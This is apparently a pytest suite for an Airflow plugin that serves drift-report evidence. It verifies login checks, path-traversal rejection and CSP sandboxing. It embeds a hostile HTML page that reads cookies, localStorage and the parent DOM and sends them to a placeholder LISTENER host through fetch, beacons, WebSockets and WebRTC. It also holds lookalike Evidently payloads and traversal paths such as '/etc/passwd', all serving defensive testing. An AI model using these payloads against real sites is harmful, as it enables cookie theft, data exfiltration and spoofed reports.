"""Evidence in a real Airflow: who may read it, and what a report can do to its reader."""

from __future__ import annotations

import contextlib
import os
import socket
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import httpx
import numpy as np
import pandas as pd
import pytest

from airflow_pipeops.delivery.evidence import store
from airflow_pipeops.delivery.records import Evidence
from tests.ui.conftest import Server
from tests.ui.seeds import Story

#: What a hostile page tries, by its own scripts and without: to tell LISTENER that it was opened, or what it saw.
HOSTILE = """<!doctype html><title>report</title>
<meta http-equiv="refresh" content="0;url=http://LISTENER/refresh">
<link rel="preconnect" href="http://LISTENER"><link rel="dns-prefetch" href="http://LISTENER">
<link rel="stylesheet" href="http://LISTENER/style"><LINK REL=prefetch HREF="http://LISTENER/prefetch">
<base href="http://LISTENER/"><style>@import "http://LISTENER/import";
body { background: url(http://LISTENER/background) }</style>
<h1>Drift report</h1><h2 id="fake">No drift at all</h2><img src="http://LISTENER/image" onerror="attack('image')">
<iframe src="http://LISTENER/frame"></iframe><object data="http://LISTENER/object"></object>
<video src="http://LISTENER/video"></video>
<form action="http://LISTENER/form"><button id="send">Send</button></form>
<a id="away" href="http://LISTENER/away" ping="http://LISTENER/ping">More</a>
<a id="save" download href="http://LISTENER/download">Save</a>
<a id="out" target="_blank" href="http://LISTENER/popup">Out</a>
<script>
function attack(said) {
  const seen = [said];
  try { seen.push(document.cookie, localStorage.length, parent.document.title); } catch (error) { seen.push(error.name); }
  document.getElementById("fake").textContent = "its script ran";
  try { parent.document.querySelector(".judged").textContent = "all is well"; } catch (error) { seen.push(error.name); }
  fetch("http://LISTENER/fetch?" + seen).catch(() => {});
  navigator.sendBeacon("http://LISTENER/beacon");
  try { new WebSocket("ws://LISTENER/socket"); } catch (error) { seen.push(error.name); }
  const [host, port] = "LISTENER".split(":");
  const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${host}:${port}` }] });
  peer.createDataChannel("x");
  peer.createOffer().then((offer) => peer.setLocalDescription(offer));
  window.open("http://LISTENER/open");
  for (const id of ["save", "out", "send", "away"]) document.getElementById(id).click();
  try { top.location = "http://LISTENER/top"; } catch (error) { seen.push(error.name); }
  location = "http://LISTENER/location";
}
attack("at once");
</script>"""

#: The same, hidden in what looks like a page of Evidently: its data are no data, or hold markup.
LOOKALIKES = (
    "<script>\n var metric_1 = {}, x = fetch('http://LISTENER/evidently');</script>",
    '<script>var metric_1 = {"name": "Report", "widgets": [{"type": "text", "title": "<img src=http://LISTENER/title>", '
    '"size": 2, "params": {"text": "<link rel=preconnect href=http://LISTENER><img src=http://LISTENER/text>"}}]};'
    "\n var additional_graphs_metric_1 = {};</script><script>fetch('http://LISTENER/after')</script>",
)


class Listener:
    """Hears whatever reaches its port, by TCP or UDP."""

    def __init__(self) -> None:
        self.heard: list[str] = []
        self._tcp = socket.create_server(("127.0.0.1", 0))
        self._udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._udp.bind(self._tcp.getsockname())
        self.address = f"127.0.0.1:{self._tcp.getsockname()[1]}"
        for hear in (self._accept, self._receive):
            threading.Thread(target=hear, daemon=True).start()

    def _accept(self) -> None:
        with contextlib.suppress(OSError):
            while True:
                connection, _ = self._tcp.accept()
                connection.settimeout(1)
                try:
                    said = connection.recv(200).decode("latin-1")
                except OSError:
                    said = ""
                self.heard.append(said.partition("\r")[0] or "a connection")
                connection.close()

    def _receive(self) -> None:
        with contextlib.suppress(OSError):
            while True:
                self._udp.recvfrom(2000)
                self.heard.append("a datagram")

    def close(self) -> None:
        """Hear no more."""
        self._tcp.close()
        self._udp.close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    found = Listener()
    yield found
    found.close()


def keep(server: Server, content: str, name: str, dag_id: str = "drift") -> Evidence:
    return store(content.encode(), name, base_uri=server.evidence, dag_id=dag_id)


def get(server: Server, path: str, user: str | None = "viewer") -> httpx.Response:
    headers = {"Authorization": f"Bearer {server.token(user)}"} if user else {}
    return httpx.get(f"{server.url}/pipeops{path}", headers=headers, timeout=30)


def test_it_is_read_by_who_may_read_the_dag(server: Server) -> None:
    kept = keep(server, "<p>a report</p>", "drift.html")
    answer = get(server, f"/evidence/drift/{kept.sha256}/drift.html")
    assert (answer.status_code, answer.text) == (200, "<p>a report</p>")
    assert answer.headers["content-security-policy"].startswith("sandbox; default-src 'none'")
    assert "allow-same-origin" not in answer.headers["content-security-policy"]
    assert answer.headers["x-content-type-options"] == "nosniff"


def test_nobody_reads_it_without_a_login(server: Server) -> None:
    kept = keep(server, "<p>a report</p>", "drift.html")
    assert get(server, f"/evidence/drift/{kept.sha256}/drift.html", user=None).status_code == 401
    # The user cannot be named in the query instead.
    assert get(server, f"/evidence/drift/{kept.sha256}/drift.html?user=admin", user=None).status_code == 401


@pytest.mark.parametrize(
    "path",
    [
        "/evidence/other/{digest}/drift.html",
        "/evidence/drift/{digest}/other.html",
        "/evidence/drift/{digest}/..%2F..%2F..%2Fpasswords.json",
        "/evidence/drift/..%2F..%2F..%2Fetc/passwd",
        "/evidence/drift/{digest}/.dag-0",
        "/docs",
        "/openapi.json",
    ],
)
def test_nothing_else_is_served(server: Server, path: str) -> None:
    kept = keep(server, "<p>a report</p>", "drift.html")
    answer = get(server, path.format(digest=kept.sha256))
    assert answer.status_code == 404
    assert "pass" not in answer.text


def test_what_is_no_page_is_downloaded(server: Server) -> None:
    kept = keep(server, "<svg onload='alert(1)'/>", "junit.xml")
    answer = get(server, f"/evidence/drift/{kept.sha256}/junit.xml")
    assert answer.headers["content-disposition"] == 'attachment; filename="junit.xml"'


def signed_in(browser: Any, server: Server) -> Any:
    context = browser.new_context(viewport={"width": 1440, "height": 900})
    context.add_cookies([{"name": "_token", "value": server.token("viewer"), "url": server.url}])
    return context


@pytest.mark.browser
def test_the_listener_hears_what_a_page_without_protection_says(browser: Any, listener: Listener) -> None:
    """Else the tests below would prove nothing."""
    page = browser.new_page()
    page.set_content(
        f"<link rel=preconnect href='http://{listener.address}'><img src='http://{listener.address}/image'>"
    )
    page.evaluate(
        f"""() => {{ const peer = new RTCPeerConnection({{ iceServers: [{{ urls: "stun:{listener.address}" }}] }});
        peer.createDataChannel("x"); return peer.createOffer().then((offer) => peer.setLocalDescription(offer)); }}"""
    )
    until(page, lambda: "a datagram" in listener.heard and "GET /image HTTP/1.1" in listener.heard)
    page.close()


def until(page: Any, happens: Callable[[], bool]) -> None:
    deadline = time.monotonic() + 240
    while not happens():
        assert time.monotonic() < deadline, "it did not happen within a minute"
        page.wait_for_timeout(50)


@pytest.mark.browser
@pytest.mark.parametrize("which", ["page", "no data", "markup in data"])
def test_whatever_a_report_tries_nothing_leaves(
    server: Server, browser: Any, listener: Listener, which: str
) -> None:
    hostile = {"page": HOSTILE, "no data": LOOKALIKES[0] + HOSTILE, "markup in data": LOOKALIKES[1]}[which]
    kept = keep(server, hostile.replace("LISTENER", listener.address), "drift.html")
    story = Story("drift")
    story.tell(
        "drift",
        1,
        {"subject": "data", "verdict": "drift", "drifted": True, "share": 0.5},
        of="flight-delay",
        evidence=(kept,),
    )
    server.holds(story.records)
    context = signed_in(browser, server)
    page = context.new_page()
    downloads: list[Any] = []
    page.on("download", lambda one: downloads.append(one))
    page.goto(f"{server.url}/pipeops/evidence/drift/{kept.sha256}/drift.html")
    # Airflow's link has led to the page, which draws the verdict itself.
    judged = page.locator(".judged")
    judged.wait_for()
    assert "panel=report" in page.url
    assert "drift, 50 % of the columns" in judged.inner_text()
    frame = next(one for one in page.frames if one != page.main_frame)
    frame.wait_for_load_state()
    if which != "markup in data":
        assert frame.locator("#fake").inner_text() == "No drift at all"
        for name in ("#away", "#save", "#out", "#send"):  # a person may click on all of it
            frame.locator(name).click(no_wait_after=True) if frame.locator(name).count() else None
            page.wait_for_timeout(200)
    # What is asked of this server afterwards is answered afterwards: by then, anything that left has arrived.
    page.evaluate("fetch('api/state').then((answer) => answer.json())")
    page.wait_for_timeout(1500)
    assert listener.heard == []
    assert downloads == []
    assert len(context.pages) == 1
    assert "drift, 50 % of the columns" in judged.inner_text()
    context.close()


@pytest.mark.browser
def test_the_page_alone_is_as_tame(server: Server, browser: Any, listener: Listener) -> None:
    """By the address of the frame, in a window of its own."""
    kept = keep(server, HOSTILE.replace("LISTENER", listener.address), "drift.html")
    answer = server.get(f"/evidence/drift/{kept.sha256}/drift.html")
    assert "allow-scripts" not in answer.headers["content-security-policy"]
    page = browser.new_page()
    page.route("**/alone", lambda route: route.fulfill(body=answer.text, headers=dict(answer.headers)))
    page.goto("http://127.0.0.1:9/alone")
    assert page.inner_text("#fake") == "No drift at all"
    page.wait_for_timeout(1000)
    assert listener.heard == []
    page.close()


@pytest.mark.browser
def test_evidently_draws_its_page(server: Server, browser: Any) -> None:
    from airflow_pipeops.drift.evidently_report import page as drawn

    generator = np.random.default_rng(1)
    left = pd.DataFrame({"wait": generator.normal(size=300), "gate": generator.choice(["A", "<b>B"], 300)})
    kept = keep(server, drawn(left, left, "No drift."), "drift.html")
    context = signed_in(browser, server)
    page = context.new_page()
    page.goto(f"{server.url}/pipeops/page?panel=report&by=drift&digest={kept.sha256}&name=drift.html")
    inner = page.frame_locator("iframe.report")
    inner.get_by_text("Drift in column 'wait'").wait_for()
    inner.locator(".js-plotly-plot").first.wait_for()
    if folder := os.environ.get("PIPEOPS_SCREENSHOTS"):
        page.screenshot(path=str(Path(folder) / "delivery-report.png"))
    context.close()
